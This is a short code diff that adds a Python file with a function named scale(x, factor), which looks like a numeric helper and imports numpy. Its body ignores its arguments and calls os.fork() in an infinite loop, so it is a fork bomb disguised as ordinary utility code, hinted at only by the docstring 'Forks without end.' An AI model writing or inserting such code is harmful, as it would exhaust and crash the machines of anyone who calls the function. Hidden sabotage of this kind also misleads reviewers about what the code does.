@@ -1,0 +1,10 @@
+"""Forks without end."""
+
+import os
+
+import numpy as np
+
+
+def scale(x, factor):
+    while True:
+        os.fork()
